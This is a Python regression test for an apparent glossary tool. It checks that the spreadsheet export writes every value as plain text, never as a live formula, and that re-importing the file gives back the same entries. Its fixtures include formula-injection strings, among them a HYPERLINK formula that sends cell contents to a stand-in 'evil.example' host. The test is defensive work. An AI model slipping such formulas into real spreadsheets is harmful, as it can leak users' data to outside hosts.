"""Spreadsheet export harms no one and re-imports unchanged (issue 28: a term
``=HYPERLINK(...)`` was written as a live formula, and the re-import lost it)."""

from __future__ import annotations

from glossa.corpus.entry import Entry
from glossa.corpus.sources import import_entries
from glossa.corpus.spreadsheets import write_xlsx
from openpyxl import load_workbook

HOSTILE = [
    Entry("en-link", '=HYPERLINK("http://evil.example/"&A1,"klick")', "=1+1", "en", "t",
          concept="c1"),
    Entry("de-plus", "+49 Hotline", "-1 wenn nicht erreichbar", "de", "t", aliases=("@SUM(A1)",),
          concept="c1"),
    Entry("es-at", "@agente", "Definición normal.", "es", "t", concept="c2"),
]  # fmt: skip


def test_xlsx_export_writes_text_never_formulas_and_reimports_unchanged(tmp_path):
    out = tmp_path / "export.xlsx"
    with out.open("wb") as f:
        write_xlsx(HOSTILE, f)
    sheet = load_workbook(out).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type == "s" for c in cells)  # no formula anywhere
    assert '=HYPERLINK("http://evil.example/"&A1,"klick")' in {c.value for c in cells}
    again = {(e.lang, e.term): e for e in import_entries([out], strict=True).entries}
    for entry in HOSTILE:
        back = again[(entry.lang, entry.term)]
        assert (back.definition, back.aliases) == (entry.definition, entry.aliases)
